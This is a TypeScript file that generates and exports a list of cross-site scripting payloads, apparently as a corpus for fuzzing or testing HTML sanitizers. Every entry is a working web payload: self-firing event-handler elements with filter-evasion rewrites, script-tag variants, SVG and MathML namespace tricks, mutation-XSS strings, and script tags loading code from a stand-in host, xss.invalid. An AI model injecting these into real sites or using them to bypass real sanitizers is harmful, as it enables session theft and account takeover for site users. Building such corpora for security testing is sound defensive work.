/**
 * HTML elements that run an event handler by themselves once they are in a page. `§` stands for the JavaScript of the
 * handler.
 */
const loaders = [
  '<img src=x onerror="§">',
  '<svg onload="§">',
  '<body onload="§">',
  '<video src=x onerror="§"></video>',
  '<audio src=x onerror="§">',
  '<details open ontoggle="§">x</details>',
  '<input autofocus onfocus="§">',
  '<select autofocus onfocus="§"></select>',
  '<p onpointerenter="§" onclick="§">p</p>',
  '<a href="#" onfocus="§" autofocus>a</a>',
  '<b style="animation:x" onanimationstart="§">b</b>',
  '<iframe onload="§"></iframe>',
  '<link rel=stylesheet href=x onerror="§">',
  '<object data=x onerror="§"></object>',
] as const;

type Disguise = (html: string) => string;

/** Functions that rewrite an HTML element into another spelling, which a browser parses as the same element. */
const disguises: readonly Disguise[] = [
  (html) => html,
  (html) => html.replaceAll('"', "'"),
  (html) => html.toUpperCase().replaceAll('§', '§'),
  (html) => html.replace(/<(\w+) /, '<$1/'),
  (html) => html.replace(/<(\w+) /, '<$1\n\t'),
  (html) => html.replace(/<(\w+) /, '<$1\f'),
  (html) => html.replace(/ on(\w)(\w+)=/g, (_, first: string, rest: string) => ` oN${first.toUpperCase()}${rest} = `),
  (html) => html.replace(/<(\w+)/, '<$1 title="a>b" '),
  (html) => html.replace(/<(\w+)/, '<$1 x=`>` '),
  (html) => `<p>${html}`,
  (html) => html.replace(/>.*$/s, ''),
  (html) => `<<${html.slice(1)}`,
];

const scripts = [
  '<script>§</script>',
  '<ScRiPt>§</sCrIpT>',
  '<script >§</script >',
  '<script/x>§</script>',
  '<script\n>§</script\n>',
  '<script src="//xss.invalid/a.js"></script>',
  '<script src="data:text/javascript,§"></script>',
  '<script type=module>§</script>',
  '<script nonce="">§</script>',
  '<script nonce="AAAAAAAAAAAAAAAAAAAAAA==">§</script>',
  '<script>§',
  '<script>//</script\n§</script>',
  '<scr<script>ipt>§</scr</script>ipt>',
  '<script><!--\n§\n--></script>',
  '<script defer src=//xss.invalid/b.js>',
  '<script\u0000>§</script>',
  '<script xmlns="http://www.w3.org/1999/xhtml">§</script>',
  '<noscript><script>§</script></noscript>',
  '&lt;script&gt;§&lt;/script&gt;',
  '&#60;script&#62;§&#60;/script&#62;',
  '%3Cscript%3E§%3C/script%3E',
] as const;

const foreign = [
  '<svg><script>§</script></svg>',
  '<svg><script href="data:,§"/></svg>',
  '<svg><script xlink:href="data:text/javascript,§"></script></svg>',
  '<svg><animate onbegin="§" attributeName=x dur=1s></svg>',
  '<svg><animate href=#x attributeName=href values="javascript:§"/><a id=x><text y=20>x</text></a></svg>',
  '<svg><set attributeName=onmouseover to="§"/></svg>',
  '<svg><a xlink:href="javascript:§"><text y=20>x</text></a></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.§</script>"></iframe></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>§</script></svg>#x"/></svg>',
  '<svg><image href=x onerror="§"/></svg>',
  '<svg><style><img src=x onerror="§"></style></svg>',
  '<svg><desc><img src=x onerror="§"></desc></svg>',
  '<svg><title><script>§</script></title></svg>',
  '<svg/onload=§>',
  '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>§</handler></svg>',
  '<math><a href="javascript:§">x</a></math>',
  '<math href="javascript:§"><mi>x</mi></math>',
  '<math><mtext><script>§</script></mtext></math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:§">x</maction></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror="§"></annotation-xml></math>',
] as const;

/** Payloads for mutation XSS: harmless when parsed once, active when the serialised result is parsed again. */
const mutating = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=§&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=§>',
  '<svg></p><style><a id="</style><img src=x onerror=§>">',
  '<svg><p><style><g title="</style><img src=x onerror=§>">',
  '<noscript><p title="</noscript><img src=x onerror=§>">',
  '<noembed><p title="</noembed><img src=x onerror=§>">',
  '<iframe><p title="</iframe><img src=x onerror=§>">',
  '<xmp><p title="</xmp><img src=x onerror=§>">',
  '<title><p title="</title><img src=x onerror=§>">',
  '<textarea><p title="</textarea><img src=x onerror=§>">',
  '<style><p title="</style><img src=x onerror=§>">',
  '<select><style></select><img src=x onerror=§></style>',
  '<table><td><img src=x onerror=§></table>',
  '<table><style><img src=x onerror=§></style></table>',
  '<template><img src=x onerror=§></template>',
  '<template><style></template><img src=x onerror=§></style>',
  '<plaintext><img src=x onerror=§>',
  '<listing>&lt;img src=x onerror=§&gt;</listing>',
  '<!--><img src=x onerror=§>-->',
  '<!--x--!><img src=x onerror=§>',
  '<!--<img src="--><img src=x onerror=§//">',
  '<![CDATA[<img src=x onerror=§>]]>',
  '<?xml version="1.0"?><img src=x onerror=§>',
  '<!DOCTYPE x [<img src=x onerror=§>]>',
  '</ <img src=x onerror=§>>',
  '<a title="&lt;img src=x onerror=§&gt;">x</a>',
  '<p title="<!--"><img title="--><img src=x onerror=§>"></p>',
  '<img alt="`><img src=x onerror=§>">',
  '<b><p></b><svg><style></p><img src=x onerror=§>',
  '<abbr title="</abbr><script>§</script>">x</abbr>',
] as const;

/** Payloads with HTML elements that contain, load or run a script. `§` stands for the JavaScript code. */
export const elementPayloads: readonly string[] = [
  ...scripts,
  ...loaders.flatMap((html) => disguises.map((disguise) => disguise(html))),
  ...foreign,
  ...mutating,
];
